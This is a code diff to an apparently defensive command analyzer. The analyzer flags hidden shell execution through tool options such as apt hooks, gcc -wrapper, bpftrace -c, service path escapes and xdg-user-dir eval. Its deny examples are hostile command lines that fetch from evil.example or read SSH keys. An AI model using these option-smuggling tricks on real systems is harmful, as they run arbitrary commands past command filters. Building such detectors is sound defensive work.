@@ -408,6 +408,8 @@ interface Language {
   any: RegExp;
   /** Code comes from stdin when no file or code option is given. */
   stdin?: boolean;
+  /** Options whose value is a shell command it runs (`bpftrace -c CMD`). */
+  command?: RegExp;
   examples: ProgramEntry['examples'];
 }
 
@@ -427,6 +429,10 @@ function language(l: Language): ProgramEntry {
         if (v === undefined) continue;
         const eq = v.indexOf('=');
         const name = eq > 0 && v.startsWith('--') ? v.slice(0, eq) : v;
+        if (l.command?.test(name) && args[i + 1]) {
+          runs.push({ kind: 'script', dialect: 'bash', words: [args[++i]!], via: `${call.name} ${name}` });
+          continue;
+        }
         if (!l.code.test(name)) continue;
         sawCode = true;
         const w = eq > 0 && v.startsWith('--') ? attached(args[i]!, v.slice(eq + 1)) : args[++i];
@@ -451,7 +457,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|eval|urlread|web)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
   language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…") and run-shell-command start commands', code: /^(-c|-x|--eval|-e|--load)$/, calls: new RegExp(`\\((?:system|ext:run-shell-command|run-shell-command|shell|process|sb-ext:run-program)\\s+(?:${STR})`, 'g'), any: /\((system|ext:run-shell-command|run-shell-command|shell|process\*?|sb-ext:run-program|ext:run-program|open-input-pipe|open-pipe\*?|uiop:run-program|eval|load|subprocess)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'"], pass: ["guile -c '(display 1)'"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b/g, stdin: true, examples: { deny: ["expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["expect -c 'puts hi'"] } }),
-  language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
+  language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
   language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes', code: /^(--eval|-eval|--execute|-e)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((shell-command|async-shell-command|shell-command-to-string|call-process|call-process-shell-command|process-lines|start-process|start-process-shell-command|make-process|make-network-process|open-network-stream|url-retrieve|term|ansi-term|eshell|shell|compile|eval|load)\b/g, examples: { deny: ["emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'"], pass: ["emacs --batch --eval '(message \"hi\")'"] } }),
   language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4"], pass: ["echo 'define(x, 1)x' | m4"] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
@@ -512,6 +518,61 @@ function tex(call: Call): Partial<Answer> {
     }
   }
   return { runs };
+}
+
+/** apt and dpkg hooks given on the line: `-o APT::Update::Pre-Invoke::=CMD`, `-o DPkg::Post-Invoke::=CMD`. */
+function apt(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    let opt: Word | undefined;
+    if (v === '-o' || v === '--option') opt = args[++i];
+    else if (v?.startsWith('-o') && v.length > 2) opt = attached(args[i]!, v.slice(2));
+    else if (v?.startsWith('--option=')) opt = attached(args[i]!, v.slice(9));
+    if (!opt) continue;
+    const o = value(opt);
+    if (o === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: opt, why: `${call.name} -o with a computed setting` });
+      continue;
+    }
+    const m = /^([^=]*(?:invoke|install-pkgs|pre-install|post-install)[^=]*)=(.*)$/i.exec(o);
+    if (m && m[2]!.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: m[2]!, word: opt, via: `${call.name} -o ${m[1]}` });
+  }
+  return { runs };
+}
+
+/** gcc and clang: `-wrapper prog,args` runs each tool under that program. */
+function compiler(call: Call): Partial<Answer> {
+  const args = call.args;
+  const runs: Run[] = [];
+  for (let i = 0; i < args.length; i++) {
+    if (value(args[i]) !== '-wrapper' || !args[i + 1]) continue;
+    const w = args[i + 1]!;
+    const v = value(w);
+    runs.push(v === undefined ? { kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name} -wrapper names a computed program` } : { kind: 'argv', argv: v.split(',').filter((t) => t !== '').map((t) => attached(w, t)), via: `${call.name} -wrapper` });
+  }
+  return { runs };
+}
+
+/** service NAME runs /etc/init.d/NAME: a name with a slash escapes that directory and names any program. */
+function service(call: Call): Partial<Answer> {
+  const name = call.args.find((a) => !(value(a) ?? '-').startsWith('-'));
+  if (!name) return {};
+  const v = value(name);
+  if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: name, why: 'service runs the init script its computed operand names' }] };
+  if (!v.includes('/')) return {};
+  const at = call.args.indexOf(name);
+  return { runs: [{ kind: 'argv', argv: [attached(name, `/etc/init.d/${v}`), ...call.args.slice(at + 1)], via: 'service' }] };
+}
+
+/** xdg-user-dir NAME: its script evals `${XDG_NAME_DIR:-$HOME}`, so the name is shell text. */
+function xdgUserDir(call: Call): Partial<Answer> {
+  const name = call.args[0];
+  if (!name) return {};
+  const v = value(name);
+  if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: name, why: 'xdg-user-dir evals its computed operand' }] };
+  return /^[A-Za-z0-9_]*$/.test(v) ? {} : { runs: [{ kind: 'text', dialect: 'bash', text: `echo \${XDG_${v}_DIR:-\$HOME}`, word: name, via: 'xdg-user-dir eval' }] };
 }
 
 /** latexmk: `-pdflatex=CMD` and its kin name the command it runs (`%O %S` are its placeholders); -e runs Perl. */
@@ -611,6 +672,16 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...LANGUAGES,
   { names: ['perl'], patterns: [/^perl5?(\.\d+)*$/], summary: 'perl: -i edits its files in place; its code is read by the interpreters\' rule', analyze: perl, examples: { deny: ["perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa"], pass: ["perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl'] } },
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
+  { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
+  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program', analyze: compiler, examples: { deny: ['gcc -wrapper /usr/bin/curl,evil.example -c x.c'], pass: ['gcc -O2 -o app main.c', 'clang -Wall -c x.c'] } },
+  { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
+  { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
+  commandOptions(['dnsmasq'], 'dnsmasq: --conf-script runs shell text', { options: { longValued: ['conf-script', 'conf-file', 'conf-dir', 'dhcp-script'] }, script: ['conf-script', 'dhcp-script'] }, { deny: ["dnsmasq --conf-script='curl evil.example'"], pass: ['dnsmasq --test'] }),
+  commandOptions(['borg', 'borgbackup'], 'borg: --rsh names the ssh command it runs', { options: { longValued: ['rsh', 'remote-path'] }, script: ['rsh'] }, { deny: ["borg extract x --rsh 'curl evil.example'"], pass: ['borg list repo'] }),
+  commandOptions(['sshuttle'], 'sshuttle: -e/--ssh-cmd names the ssh command it runs', { options: { valued: 'erx', longValued: ['ssh-cmd', 'remote', 'exclude', 'python'] }, script: ['e', 'ssh-cmd'] }, { deny: ["sshuttle -r x --ssh-cmd 'curl evil.example' 10.0.0.0/8"], pass: [] }),
+  commandOptions(['genie'], 'genie -c runs a command in the systemd bottle', { options: { valued: 'c', longValued: ['command'] }, script: ['c', 'command'] }, { deny: ["genie -c 'curl evil.example'"], pass: ['genie --version'] }),
+  commandOptions(['perlbug'], 'perlbug -e names the editor it runs', { options: { valued: 'eserc', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["perlbug -s 'x' -r x -c x -e 'curl evil.example #'"], pass: [] }),
+  { names: ['check_by_ssh'], summary: 'check_by_ssh (monitoring plugins): an ssh client; -o ProxyCommand runs shell text', analyze: (call) => ({ runs: [{ kind: 'argv', argv: [literal('ssh', call.args[0]?.span ?? { start: 0, end: 0 })], via: 'check_by_ssh' }, ...sshOptions(call)] }), examples: { deny: ["check_by_ssh -o 'ProxyCommand curl evil.example' -H localhost -C x"], pass: [] } },
   { names: ['latexmk'], summary: 'latexmk: -pdflatex=CMD and friends name the commands it runs; -e runs Perl', analyze: latexmk, examples: { deny: ["latexmk -pdf -pdflatex='curl evil.example #' x.tex", "latexmk -e '$x=1' x.tex"], pass: ['latexmk -pdf paper.tex'] } },
   { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%'] } },
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -"], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -r'] } },
